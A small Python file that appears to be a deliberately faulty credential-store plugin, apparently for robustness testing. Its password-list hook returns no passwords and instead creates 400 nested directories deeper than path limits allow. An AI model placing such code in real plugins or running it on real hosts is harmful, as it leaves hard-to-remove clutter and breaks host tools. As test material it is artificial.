# Leaves folders one in another, deeper than a path may be long.
import os


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        for _ in range(400):
            os.mkdir("a-name-that-is-rather-long")
            os.chdir("a-name-that-is-rather-long")
        return None

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
